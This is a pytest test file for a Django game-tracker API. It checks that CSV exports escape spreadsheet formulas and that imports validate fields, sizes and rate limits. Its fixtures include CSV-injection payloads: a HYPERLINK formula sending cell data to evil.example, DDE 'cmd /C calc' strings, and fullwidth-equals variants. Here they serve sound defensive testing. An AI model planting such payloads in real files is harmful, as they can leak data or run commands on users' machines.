"""Exports a spreadsheet cannot run, and imports checked like the API's own writes."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from rest_framework.test import APIClient

from deck_tracker.awards.models import GameRecord, Player, PlayerGroup

from ..conftest import client_for
from .conftest import Personas, act

pytestmark = pytest.mark.django_db(transaction=True)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def imported(personas: Personas, body: dict[str, Any]) -> Any:
    return personas.alice.client.post(
        "/api/v1/awards/import/", {"group": personas.group, **body}, format="json"
    )


def document(**changes: Any) -> dict[str, Any]:
    game = {"played_on": "2025-01-02", "generals": ["S"], "minions": [], "result": "W"}
    return {"format": "dotr-award-tracker", "version": 1, "games": [game], **changes}


def test_a_strangers_name_is_exported_as_text_not_a_formula(personas: Personas) -> None:
    """Charlie joins Alice's table with a join code, named as a formula; the game ends."""
    game = personas.play(host=(personas.alice, personas.ada, "Wizard"))
    joined = APIClient().post(
        "/api/v1/games/join/",
        {"join_code": game["join_code"], "name": HYPERLINK, "hero": "Rogue"},
        format="json",
    )
    assert joined.status_code == 201, joined.content
    reason = "@SUM(1+1)*cmd|' /C calc'!A0"
    act(game["seats"]["1"], game["id"], "end_game", {"result": "lost", "reason": reason})
    text = personas.alice.client.get(f"/api/v1/awards/export.csv?group={personas.group}")
    rows = list(csv.reader(io.StringIO(text.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HYPERLINK in cells
    assert "'" + reason in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "@SUM(A1)", "+1+1", "-2+3"])
def test_imported_names_come_back_as_text_and_round_trip(personas: Personas, name: str) -> None:
    csv_text = f'played_on,generals,result,player_1,hero_1\n2025-01-02,S,W,"{name}",Wizard\n'
    assert imported(personas, {"csv": csv_text}).status_code == 200
    exported = personas.alice.client.get(f"/api/v1/awards/export.csv?group={personas.group}")
    row = next(csv.DictReader(io.StringIO(exported.content.decode())))
    assert row["player_1"] == "'" + name
    # The apostrophe is the export's, not the player's: importing the file gives the name back.
    other = personas.alice.client.post("/api/v1/groups/", {"name": "Copy"}, format="json").json()
    again = personas.alice.client.post(
        "/api/v1/awards/import/",
        {"group": other["id"], "csv": exported.content.decode()},
        format="json",
    )
    assert again.status_code == 200, again.content
    assert Player.objects.filter(group_id=other["id"], name=name).exists()


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"players": ["x"]}, "players.0"),
        ({"players": 5}, "players"),
        ({"players": {"a": 1}}, "players"),
        ({"players": [{"name": "Cy", "account": {"a": 1}}]}, "players.0.account"),
        ({"group": {"fame_cup": [1] * 5000}}, "group.fame_cup"),
        ({"group": {"reward_effects": {"duke": "x" * 500}}}, "group.reward_effects.duke"),
        ({"group": "settings"}, "group"),
    ],
)
def test_wrong_types_answer_400_naming_the_field(
    personas: Personas, changes: dict[str, Any], field: str
) -> None:
    response = imported(personas, {"document": document(**changes)})
    assert response.status_code == 400, response.content
    assert field in response.json()["fields"], response.json()
    assert GameRecord.objects.count() == 0  # nothing half-written


def test_wrong_types_inside_a_game_answer_400(personas: Personas) -> None:
    games = [
        {"played_on": "2025-01-02", "generals": ["S"], "minions": [], "result": "W", "heroes": 5},
        {"played_on": "2025-01-03", "generals": ["S"], "result": "W", "rewards": {"a": 1}},
    ]
    response = imported(personas, {"document": document(games=games)})
    assert response.status_code == 400
    assert {"games.0.heroes", "games.1.rewards"} <= set(response.json()["fields"])


def test_settings_a_patch_refuses_are_refused_by_an_import_too(personas: Personas) -> None:
    url = f"/api/v1/groups/{personas.group}/"
    for settings in ({"fame_cup": [1] * 101}, {"reward_effects": {"duke": "x" * 201}}):
        assert personas.alice.client.patch(url, settings, format="json").status_code == 400
        assert imported(personas, {"document": document(group=settings)}).status_code == 400
    group = PlayerGroup.objects.get(pk=personas.group)
    assert group.fame_cup == [] and group.reward_effects == {}
    # And a game of the group's players still starts.
    personas.play(host=(personas.alice, personas.ada, "Wizard"))


def test_a_csv_with_carriage_returns_only_is_read(personas: Personas) -> None:
    text = "played_on,generals,result\r2025-01-02,S V,W\r2025-01-03,G,L\r"
    response = imported(personas, {"csv": text})
    assert response.status_code == 200, response.content
    assert response.json()["games_created"] == 2


def test_a_csv_the_reader_cannot_parse_answers_400(personas: Personas) -> None:
    response = imported(personas, {"csv": 'played_on,generals,result\n"2025-01-02,S,W\x00'})
    assert response.status_code == 400


def test_imports_are_limited_per_file_per_group_and_per_hour(
    personas: Personas, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from deck_tracker.awards.api.throttles import ImportThrottle

    settings.IMPORT_MAX_GAMES, settings.GROUP_MAX_GAMES = 3, 5
    monkeypatch.setattr(ImportThrottle, "rate", "3/hour", raising=False)

    def games(start: int, count: int) -> list[dict[str, Any]]:
        return [
            {"played_on": f"2025-01-{day:02d}", "generals": ["S"], "minions": [], "result": "W"}
            for day in range(start, start + count)
        ]

    too_big = imported(personas, {"document": document(games=games(1, 4))})
    assert too_big.status_code == 413 and too_big.json()["code"] == "import_too_large"
    assert imported(personas, {"document": document(games=games(1, 3))}).status_code == 200
    full = imported(personas, {"document": document(games=games(10, 3))})
    assert full.status_code == 409 and full.json()["code"] == "group_full"
    assert GameRecord.objects.count() == 3
    throttled = imported(personas, {"document": document(games=games(20, 1))})
    assert throttled.status_code == 429
    # Another account's imports are counted apart.
    bobs = client_for(personas.bob.token).post("/api/v1/groups/", {"name": "B"}, format="json")
    other = personas.bob.client.post(
        "/api/v1/awards/import/",
        {"group": bobs.json()["id"], "document": document(games=games(1, 1))},
        format="json",
    )
    assert other.status_code == 200


# Spreadsheets read compatibility forms as their plain character: a fullwidth or small equals
# sign typed with an East Asian keyboard starts a formula too.
@pytest.mark.parametrize(
    "name",
    ['\uff1dHYPERLINK("http://evil.example")', "\ufe66cmd|' /C calc'!A0", "\uff0b1+1", "\uff201"],
)
def test_a_formula_in_any_spelling_is_exported_as_text_and_round_trips(
    personas: Personas, name: str
) -> None:
    heroes = [{"player": name, "hero": "Wizard"}]
    game = {**document()["games"][0], "heroes": heroes}
    assert imported(personas, {"document": document(games=[game])}).status_code == 200
    exported = personas.alice.client.get(f"/api/v1/awards/export.csv?group={personas.group}")
    row = next(csv.DictReader(io.StringIO(exported.content.decode())))
    imported_player = Player.objects.filter(group_id=personas.group).exclude(
        name__in=["Ada", "Bea"]
    )
    stored = imported_player.get().name  # as the import kept it
    assert row["player_1"] == "'" + stored
    other = personas.alice.client.post("/api/v1/groups/", {"name": "Copy"}, format="json").json()
    again = personas.alice.client.post(
        "/api/v1/awards/import/",
        {"group": other["id"], "csv": exported.content.decode()},
        format="json",
    )
    assert again.status_code == 200, again.content
    assert Player.objects.filter(group_id=other["id"], name=stored).exists()


@pytest.mark.parametrize("fame", ["1e400", "-1e400", "1.5"])
def test_a_fame_that_is_no_whole_number_answers_400_naming_the_field(
    personas: Personas, fame: str
) -> None:
    heroes = [{"player_name": "Cy", "hero": "Wizard", "minor_fame": "FAME"}]
    game = {**document()["games"][0], "heroes": heroes}
    body = json.dumps({"group": personas.group, "document": document(games=[game])})
    response = personas.alice.client.post(
        "/api/v1/awards/import/",
        body.replace('"FAME"', fame),  # the number as a client wrote it
        content_type="application/json",
    )
    assert response.status_code == 400, response.content
    assert response.json()["code"] == "invalid_import"
    assert "games.0.heroes.0.minor_fame" in response.json()["fields"]
    assert GameRecord.objects.count() == 0


def test_a_hero_name_too_long_once_written_as_an_id_answers_400(personas: Personas) -> None:
    # 60 characters typed, 300 once written as an id ("rad-s2" each): PostgreSQL's column holds
    # 60, so the import refuses it by name rather than failing on the write.
    long = "\u33af" * 60
    heroes = [{"player": "Cy", "hero": long}]
    rewards = [{"card": "duke", "hero": long, "player": "Cy"}]
    game = {**document()["games"][0], "heroes": heroes, "rewards": rewards}
    response = imported(personas, {"document": document(games=[game])})
    assert response.status_code == 400, response.content
    fields = response.json()["fields"]
    assert {"games.0.heroes.0.hero", "games.0.rewards.0.hero"} <= set(fields)
    assert GameRecord.objects.count() == 0
